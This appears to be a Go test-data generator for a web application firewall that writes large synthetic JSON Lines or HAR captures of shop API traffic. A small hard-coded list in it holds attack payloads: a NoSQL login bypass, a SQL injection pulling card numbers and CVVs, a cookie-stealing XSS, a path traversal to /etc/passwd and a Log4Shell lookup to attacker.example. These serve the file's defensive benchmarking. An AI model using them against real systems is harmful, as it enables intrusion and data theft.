// Command bigcapture writes a large synthetic capture for measuring
// fieldwall replay: JSON Lines of request records or a HAR 1.2 file, with
// mostly benign API traffic and about one attack in ten requests. The
// output is the same for the same flags.
//
// Usage:
//
//	go run ./cmd/fieldwall/testdata/gen/bigcapture -format jsonl -size 1024 -out /tmp/replay-1g.jsonl
//	go run ./cmd/fieldwall/testdata/gen/bigcapture -format har -size 1024 -out /tmp/replay-1g.har
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"time"
)

// request is one generated request.
type request struct {
	method string
	path   string
	header map[string]string
	body   string
	time   time.Time
	client string
}

var (
	benignPaths = []string{"/api/products", "/api/products/search", "/api/cart", "/api/orders", "/api/users/me", "/api/reviews", "/graphql", "/api/login"}
	attacks     = []struct{ path, body string }{
		{"/api/login", `{"user":"admin","pass":{"$ne":null}}`},
		{"/api/products/search", `{"q":"boots' UNION SELECT card_number, cvv FROM cards--"}`},
		{"/api/reviews", `{"title":"great","text":"<img src=x onerror=alert(document.cookie)>"}`},
		{"/api/files", `{"name":"../../../../etc/passwd"}`},
		{"/api/users/me", `{"avatar":"${jndi:ldap://attacker.example/a}"}`},
	}
)

func generate(r *rand.Rand, n int, start time.Time) request {
	req := request{
		time:   start.Add(time.Duration(n) * 37 * time.Millisecond),
		client: fmt.Sprintf("198.51.100.%d", r.IntN(250)+1),
		header: map[string]string{
			"Host":            "shop.example.com",
			"User-Agent":      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
			"Accept":          "application/json",
			"Accept-Language": "en-GB,en;q=0.9",
			"X-Request-ID":    fmt.Sprintf("%016x", r.Uint64()),
		},
	}
	if r.IntN(10) == 0 {
		a := attacks[r.IntN(len(attacks))]
		req.method, req.path, req.body = "POST", a.path, a.body
		req.header["Content-Type"] = "application/json"
		return req
	}
	req.path = benignPaths[r.IntN(len(benignPaths))]
	if r.IntN(2) == 0 {
		req.method = "GET"
		req.path += fmt.Sprintf("?category=boots&page=%d&sort=price&size=%d", r.IntN(40)+1, r.IntN(8)+38)
		return req
	}
	req.method = "POST"
	req.header["Content-Type"] = "application/json"
	items := make([]string, r.IntN(6)+1)
	for i := range items {
		items[i] = fmt.Sprintf(`{"sku":"BT-%05d","quantity":%d,"note":"gift wrap, please deliver after 5 pm"}`, r.IntN(100000), r.IntN(3)+1)
	}
	req.body = fmt.Sprintf(`{"cart":"%08x","items":[%s],"coupon":null,"currency":"EUR"}`, r.Uint32(), strings.Join(items, ","))
	return req
}

func writeJSONLines(w *bufio.Writer, req request) error {
	line, err := json.Marshal(map[string]any{
		"method": req.method, "path": req.path, "headers": req.header, "body": req.body,
		"time": req.time.Format(time.RFC3339Nano), "client_ip": req.client,
	})
	if err != nil {
		return err
	}
	w.Write(line)
	return w.WriteByte('\n')
}

// responseText is the body of every HAR response: real exports carry
// response bodies, often larger than the requests.
var responseText = strings.Repeat(`{"sku":"BT-01234","name":"Leather boots","price":129.95,"stock":12},`, 24)

func writeHAREntry(w *bufio.Writer, req request, first bool) error {
	headers := []map[string]string{
		{"name": ":authority", "value": "shop.example.com"}, {"name": ":method", "value": req.method},
		{"name": ":path", "value": req.path}, {"name": ":scheme", "value": "https"},
	}
	for name, value := range req.header {
		headers = append(headers, map[string]string{"name": strings.ToLower(name), "value": value})
	}
	request := map[string]any{
		"method": req.method, "url": "https://shop.example.com" + req.path, "httpVersion": "http/2.0",
		"headers": headers, "queryString": []any{}, "cookies": []any{}, "headersSize": -1, "bodySize": len(req.body),
	}
	if req.body != "" {
		request["postData"] = map[string]string{"mimeType": "application/json", "text": req.body}
	}
	entry := map[string]any{
		"startedDateTime": req.time.Format("2006-01-02T15:04:05.000Z07:00"),
		"time":            12.5,
		"request":         request,
		"response": map[string]any{
			"status": 200, "statusText": "", "httpVersion": "http/2.0", "headers": []any{}, "cookies": []any{},
			"content":     map[string]any{"size": len(responseText), "mimeType": "application/json", "text": "[" + responseText + "{}]"},
			"redirectURL": "", "headersSize": -1, "bodySize": -1,
		},
		"cache":   map[string]any{},
		"timings": map[string]float64{"send": 0.1, "wait": 11.9, "receive": 0.5},
	}
	data, err := json.Marshal(entry)
	if err != nil {
		return err
	}
	if !first {
		w.WriteString(",\n")
	}
	_, err = w.Write(data)
	return err
}

func main() {
	format := flag.String("format", "jsonl", "jsonl or har")
	sizeMiB := flag.Int64("size", 1024, "approximate output size in MiB")
	out := flag.String("out", "", "output file")
	flag.Parse()
	if *out == "" || (*format != "jsonl" && *format != "har") {
		fmt.Fprintln(os.Stderr, "usage: bigcapture -format jsonl|har -size MiB -out FILE")
		os.Exit(2)
	}
	if err := writeCapture(*out, *format, *sizeMiB<<20); err != nil {
		fmt.Fprintln(os.Stderr, "bigcapture:", err)
		os.Exit(1)
	}
}

// writeCapture writes requests in format to the file at path until it is
// limit bytes long.
func writeCapture(path, format string, limit int64) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	w := bufio.NewWriterSize(f, 1<<20)
	r := rand.New(rand.NewPCG(1, 2))
	start := time.Date(2026, 5, 4, 8, 0, 0, 0, time.UTC)

	if format == "har" {
		w.WriteString(`{"log": {"version": "1.2", "creator": {"name": "bigcapture", "version": "1"}, "entries": [` + "\n")
	}
	for n := 0; int64(w.Buffered())+fileSize(f) < limit; n++ {
		req := generate(r, n, start)
		if format == "har" {
			err = writeHAREntry(w, req, n == 0)
		} else {
			err = writeJSONLines(w, req)
		}
		if err != nil {
			return err
		}
	}
	if format == "har" {
		w.WriteString("\n]}}\n")
	}

	if err := w.Flush(); err != nil {
		return err
	}
	return f.Close()
}

func fileSize(f *os.File) int64 {
	info, err := f.Stat()
	if err != nil {
		return 0
	}
	return info.Size()
}
